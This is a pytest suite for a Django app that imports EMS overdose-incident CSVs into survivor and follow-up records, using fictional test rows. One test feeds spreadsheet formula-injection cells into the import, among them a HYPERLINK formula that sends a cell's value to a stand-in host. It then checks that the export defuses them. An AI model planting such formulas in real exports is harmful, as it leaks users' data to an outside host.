"""The CSV import on a messy export: every valid row lands once, every bad row says what to fix."""

import csv
import io
from datetime import date, datetime

import pytest
import time_machine
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from django.utils import timezone

from followups.models import FollowUp
from port.audit.models import AuditEvent
from referrals.models import Referral
from survivors import importer, importing
from survivors.models import ImportBatch, ImportMapping, OverdoseEvent, Survivor
from tests.factories import ReferralFactory

pytestmark = pytest.mark.django_db
NOW = timezone.make_aware(datetime(2026, 6, 1, 12, 0))

HEADER = "Incident #,Incident Date,Time,First,Last,DOB,Phone,Outcome,Narcan,Address,Zip,Unit"
MESSY = "\r\n".join([
    HEADER,
    "EMS-1,2026-03-01 14:05,,Renée,Müller,1980-07-04,(202) 555-0101,survived,yes,12 Oak St,45011,M4",
    "EMS-2,3/2/2026,2:30 PM,Dana,Whitfield,02/03/1988,202.555.0102,,no,,,M4",
    ",,,,,,,,,,,",
    "",
    "EMS-3,03/03/2026 23:15,,Luis,Peña,,+1 202 555 0103,Fatal,y,,,M2",
    "EMS-4,2026-03-04T08:00:00,,Tom,Baker,1975-01-01,2025550104,survived,,,,M2",
    "EMS-1,2026-03-01 14:05,,Renée,Müller,1980-07-04,(202) 555-0101,survived,yes,12 Oak St,45011,M4",
    "EMS-5,2027-01-01 10:00,,Future,Person,,,survived,,,,M1",
    "EMS-6,2026-03-05,,Bad,Phone,,555-12,survived,,,,M1",
    ",2026-03-06,,No,Incident,,,survived,,,,M1",
    "EMS-8,31/31/2026,,Bad,Date,,,survived,,,,M1",
    "EMS-9,2026-03-07 07:45,,Ana,Ortiz,1991-12-12,1-202-555-0111,survived,,,,M3",
]) + "\r\n"
VALID = {"EMS-1", "EMS-2", "EMS-3", "EMS-4", "EMS-9"}


@pytest.fixture(autouse=True)
def _now():
    with time_machine.travel(NOW, tick=False):
        yield


def upload(data, name="export.csv"):
    return SimpleUploadedFile(name, data, content_type="text/csv")


def run(team, coordinator, data, mapping=None, source="ems"):
    batch = importer.start_import(by=coordinator, team=team, source=source, uploaded_file=upload(data))
    importer.save_mapping(batch, mapping if mapping is not None else batch.mapping, by=coordinator)
    importer.run_import(batch.pk)
    batch.refresh_from_db()
    return batch


def test_the_columns_are_guessed_from_their_names():
    header = HEADER.split(",")
    mapping = importing.guess_mapping(header)
    assert mapping["incident_number"] == "Incident #" and mapping["occurred_at"] == "Incident Date"
    assert mapping["occurred_time"] == "Time" and mapping["date_of_birth"] == "DOB"
    assert mapping["naloxone_administered"] == "Narcan" and "Unit" not in mapping.values()


def test_a_messy_file_imports_every_valid_row_once_and_lists_the_bad_ones(team, coordinator):
    batch = run(team, coordinator, MESSY.encode("utf-8"))
    events = {e.source_incident_number: e for e in OverdoseEvent.objects.all()}
    assert set(events) == VALID
    assert batch.status == ImportBatch.Status.DONE and batch.created_events == 5
    assert batch.duplicate_rows == 1 and batch.error_rows == 4

    local = {n: timezone.localtime(e.occurred_at) for n, e in events.items()}
    assert local["EMS-1"].replace(tzinfo=None) == datetime(2026, 3, 1, 14, 5)
    assert local["EMS-2"].replace(tzinfo=None) == datetime(2026, 3, 2, 14, 30)
    assert local["EMS-3"].replace(tzinfo=None) == datetime(2026, 3, 3, 23, 15)
    assert local["EMS-4"].replace(tzinfo=None) == datetime(2026, 3, 4, 8, 0)
    phones = {e.source_incident_number: e.survivor.phone.as_e164 for e in events.values()}
    assert phones == {"EMS-1": "+12025550101", "EMS-2": "+12025550102", "EMS-3": "+12025550103",
                      "EMS-4": "+12025550104", "EMS-9": "+12025550111"}
    assert events["EMS-2"].survivor.date_of_birth == date(1988, 2, 3)
    assert events["EMS-3"].is_fatal and events["EMS-3"].survivor.status == Survivor.Status.DECEASED
    assert events["EMS-1"].naloxone_administered and not events["EMS-2"].naloxone_administered

    problems = {(e["row"], e["column"]): e["reason"] for e in batch.errors}
    assert "in the future" in problems[(9, "Incident Date")]
    assert "not a valid phone number" in problems[(10, "Phone")]
    assert "Incident number is missing" in problems[(11, "Incident #")]
    assert "not a date we can read" in problems[(12, "Incident Date")]


def test_the_import_follows_the_forms_rules_follow_ups_and_audit(team, coordinator):
    run(team, coordinator, MESSY.encode("utf-8"))
    kinds = dict(FollowUp.objects.values_list("event__source_incident_number", "kind"))
    assert kinds == {"EMS-1": "initial", "EMS-2": "initial", "EMS-3": "family_support", "EMS-4": "initial",
                     "EMS-9": "initial"}
    assert AuditEvent.objects.filter(action="create", object_type="survivors.overdoseevent").count() == 5
    assert AuditEvent.objects.filter(action="import").exists()
    assert OverdoseEvent.objects.filter(created_by=coordinator).count() == 5


def test_importing_the_same_file_again_adds_nothing(team, coordinator):
    run(team, coordinator, MESSY.encode("utf-8"))
    again = run(team, coordinator, MESSY.encode("utf-8"))
    assert again.created_events == 0 and again.duplicate_rows == 6
    assert OverdoseEvent.objects.count() == 5 and Survivor.objects.count() == 5 and FollowUp.objects.count() == 5


def test_the_bad_rows_download_as_a_csv_to_fix_and_upload_again(client, login, team, coordinator):
    batch = run(team, coordinator, MESSY.encode("utf-8"))
    login(coordinator)
    response = client.get(reverse("survivors:import_bad_rows", args=[batch.pk]))
    rows = list(csv.reader(io.StringIO(response.content.decode())))
    assert rows[0] == [*HEADER.split(","), "Problem"]
    assert [r[0] for r in rows[1:]] == ["EMS-5", "EMS-6", "", "EMS-8"]
    fixed = "\r\n".join([HEADER, *(",".join(r[:-1]) for r in rows[1:])]).replace("2027-01-01", "2026-01-01")
    fixed = fixed.replace("555-12", "202-555-0166").replace("31/31/2026", "3/31/2026")
    fixed = fixed.replace(",2026-03-06", "EMS-7,2026-03-06")
    again = run(team, coordinator, fixed.encode("utf-8"))
    assert again.created_events == 4 and again.error_rows == 0
    assert OverdoseEvent.objects.count() == 9
    assert AuditEvent.objects.filter(action="export", object_id=str(batch.pk)).exists()


def test_rows_to_fix_never_open_as_formulas_and_still_upload_again(client, login, team, coordinator):
    hostile = ['=HYPERLINK("http://x.example/?"&A1)', "+1 202 555 0101", "-2+3", "@SUM(A1:A9)", "\tx", "\rx"]
    export = io.StringIO()
    csv.writer(export).writerows([
        ["Incident #", "Incident Date", "First", "Last", "Phone", "=Notes"],
        *([f"EMS-{n}", "3/1/2026", "Ana", "Lee", "12", cell] for n, cell in enumerate(hostile)),
    ])
    batch = run(team, coordinator, export.getvalue().encode())
    assert batch.error_rows == len(hostile)  # "12" is no phone number: every row is to fix
    login(coordinator)

    download = client.get(reverse("survivors:import_bad_rows", args=[batch.pk])).content.decode()

    rows = list(csv.reader(io.StringIO(download)))
    assert rows[0] == ["Incident #", "Incident Date", "First", "Last", "Phone", "'=Notes", "Problem"]
    assert [r[5] for r in rows[1:]] == ["'" + cell for cell in hostile]
    assert rows[1][:5] == ["EMS-0", "3/1/2026", "Ana", "Lee", "12"]  # the rest as it was
    fixed = run(team, coordinator, download.replace(",12,", ",202-555-0166,").encode())
    assert fixed.created_events == len(hostile)
    assert sorted(OverdoseEvent.objects.values_list("notes", flat=True)) == sorted(c.strip() for c in hostile)


@pytest.mark.parametrize("encoding", ["cp1252", "utf-8-sig"])
def test_windows_1252_and_utf8_with_bom_files_read_the_same(team, coordinator, encoding):
    batch = run(team, coordinator, MESSY.encode(encoding))
    assert batch.encoding == ("windows-1252" if encoding == "cp1252" else "utf-8")
    assert batch.headers[0] == "Incident #"
    assert set(Survivor.objects.values_list("legal_last_name", flat=True)) >= {"Müller", "Peña"}
    assert batch.created_events == 5


def test_a_required_column_left_unmapped_is_refused_and_an_optional_one_is_just_empty(team, coordinator):
    batch = importer.start_import(by=coordinator, team=team, source="ems", uploaded_file=upload(MESSY.encode()))
    no_incident = {k: v for k, v in batch.mapping.items() if k != "incident_number"}
    problems = importing.mapping_problems(batch.headers, no_incident)
    assert problems == ["Choose the column that holds “Incident number”: it is required."]

    no_phone = {k: v for k, v in batch.mapping.items() if k != "phone"}
    done = run(team, coordinator, MESSY.encode(), mapping=no_phone)
    assert done.created_events == 6  # the bad phone no longer stops its row
    assert not Survivor.objects.exclude(phone="").exists()


def test_the_mapping_is_remembered_for_the_next_file_from_that_source(team, coordinator):
    odd = "Ref,When,Surname,Given\r\nA-1,2026-03-01,Hale,Mina\r\n"
    mapping = {"incident_number": "Ref", "occurred_at": "When", "last_name": "Surname", "first_name": "Given"}
    run(team, coordinator, odd.encode(), mapping=mapping)
    assert ImportMapping.objects.get(team=team, source="ems").columns == mapping
    later = importer.start_import(by=coordinator, team=team, source="ems",
                                  uploaded_file=upload(b"Ref,When,Surname,Given\r\nA-2,2026-03-02,Ng,Bo\r\n"))
    assert later.mapping == mapping
    other_source = importer.start_import(by=coordinator, team=team, source="police", uploaded_file=upload(odd.encode()))
    assert other_source.mapping.get("incident_number") is None


def test_rows_attach_to_known_people_only_on_an_unambiguous_exact_match(team, coordinator, person):
    known = person(legal_first_name="Dana", legal_last_name="Whitfield", date_of_birth=date(1988, 2, 3))
    person(legal_first_name="Thomas", legal_last_name="Baker", date_of_birth=None)
    person(legal_first_name="Ana", legal_last_name="Ortiz", date_of_birth=date(1950, 5, 5))  # not her
    batch = run(team, coordinator, MESSY.encode())
    assert OverdoseEvent.objects.get(source_incident_number="EMS-2").survivor == known
    tom = OverdoseEvent.objects.get(source_incident_number="EMS-4")  # "Tom Baker": probably Thomas, not certain
    assert tom.survivor is None and tom.reported_person["first_name"] == "Tom"
    assert not FollowUp.objects.filter(event=tom).exists()
    assert OverdoseEvent.objects.get(source_incident_number="EMS-9").survivor.date_of_birth == date(1991, 12, 12)
    assert batch.matched_rows == 1 and batch.unmatched_rows == 1 and batch.new_survivors == 3


def test_an_imported_event_of_a_known_person_counts_their_treatment_connection(team, coordinator, person):
    known = person(legal_first_name="Dana", legal_last_name="Whitfield", date_of_birth=date(1988, 2, 3))
    ReferralFactory(survivor=known, category="moud", status=Referral.Status.CONNECTED,
                    connected_at=timezone.make_aware(datetime(2026, 3, 10, 9, 0)))  # 8 days after EMS-2
    run(team, coordinator, MESSY.encode())
    assert OverdoseEvent.objects.get(source_incident_number="EMS-2").treatment_linked is True
    assert OverdoseEvent.objects.get(source_incident_number="EMS-1").treatment_linked is False


def test_the_coordinator_resolves_an_unmatched_row_and_the_follow_up_opens(client, login, team, coordinator, person):
    thomas = person(legal_first_name="Thomas", legal_last_name="Baker", date_of_birth=None)
    run(team, coordinator, MESSY.encode())
    event = OverdoseEvent.objects.get(source_incident_number="EMS-4")
    login(coordinator)
    assert "Tom" in client.get(reverse("survivors:unmatched")).content.decode()
    html = client.get(reverse("survivors:event_detail", args=[event.pk])).content.decode()
    assert f'value="{thomas.pk}"' in html and "Nickname" in html
    response = client.post(reverse("survivors:event_attach", args=[event.pk]), {"person_choice": str(thomas.pk)})
    assert response.url == reverse("survivors:detail", args=[thomas.pk])
    event.refresh_from_db()
    assert event.survivor == thomas and FollowUp.objects.get(event=event).survivor == thomas


def test_an_unmatched_row_can_become_a_new_person(client, login, team, coordinator, person):
    person(legal_first_name="Thomas", legal_last_name="Baker", date_of_birth=None)
    run(team, coordinator, MESSY.encode())
    event = OverdoseEvent.objects.get(source_incident_number="EMS-4")
    login(coordinator)
    client.post(reverse("survivors:event_attach", args=[event.pk]), {"person_choice": "new"})
    event.refresh_from_db()
    assert event.survivor.legal_first_name == "Tom" and event.survivor.date_of_birth == date(1975, 1, 1)
    assert FollowUp.objects.filter(event=event, kind="initial").exists()


def refusal_on_the_page(client, data):
    response = client.post(reverse("survivors:import_upload"), {"source": "ems", "file": upload(data)})
    assert response.status_code == 200
    [refusal] = response.context["form"].errors["file"]
    assert refusal in response.content.decode()
    return refusal


def test_a_file_over_the_limit_is_refused_with_its_size_and_the_limit_the_help_states(client, login, coordinator):
    login(coordinator)
    assert "Up to 20 MB; UTF-8 or Windows-1252." in client.get(reverse("survivors:import_upload")).content.decode()

    just_over = (HEADER + "\r\n").encode().ljust(20 * 1024 * 1024 + 1, b" ")  # the limit is 20 MB (binary)
    assert refusal_on_the_page(client, just_over) == (
        "The file is 20.1 MB; the limit is 20 MB. Split it into smaller files."
    )
    assert not ImportBatch.objects.exists()


@pytest.mark.parametrize("length", [2001, 200_000])  # ours, and past csv's own limit of 131,072
def test_an_over_long_cell_is_refused_naming_its_line_and_what_to_fix(client, login, coordinator, length):
    login(coordinator)
    data = "\r\n".join([HEADER, "EMS-1,2026-03-01,,Ana", "EMS-2,2026-03-01,,Bo,Lee," + "x" * length, "EMS-3"])

    assert refusal_on_the_page(client, data.encode()) == (
        "Line 3 has a cell longer than 2,000 characters; shorten that cell, or check that the file is saved as "
        "CSV with no quote left open, then upload it again."
    )
    assert not ImportBatch.objects.exists()


def test_a_cell_of_exactly_the_limit_is_read(client, login, coordinator):
    login(coordinator)
    data = "\r\n".join([HEADER, "EMS-1,2026-03-01,,Ana,Lee," + "x" * 2000])
    response = client.post(reverse("survivors:import_upload"), {"source": "ems", "file": upload(data.encode())})
    assert response.url == reverse("survivors:import_mapping", args=[ImportBatch.objects.get().pk])


def test_the_pages_walk_from_upload_to_the_result(client, login, coordinator):
    login(coordinator)
    response = client.post(reverse("survivors:import_upload"), {"source": "ems", "file": upload(MESSY.encode())})
    batch = ImportBatch.objects.get()
    assert response.url == reverse("survivors:import_mapping", args=[batch.pk])
    form = client.get(response.url).context["form"]
    mapping = {name: field.initial or "" for name, field in form.fields.items()}
    mapping["incident_number"] = ""
    assert "it is required" in client.post(response.url, mapping).content.decode()
    mapping["incident_number"] = "Incident #"
    preview_url = client.post(response.url, mapping).url
    preview = client.get(preview_url)
    html = preview.content.decode()
    assert preview.context["to_import"] == 5 and "in the future" in html and "Import 5 rows" in html
    status = client.post(reverse("survivors:import_start", args=[batch.pk]))
    html = client.get(status.url).content.decode()
    assert "5 events imported" in html and "1 duplicates skipped" in html and "4 rows to fix" in html
    assert OverdoseEvent.objects.count() == 5
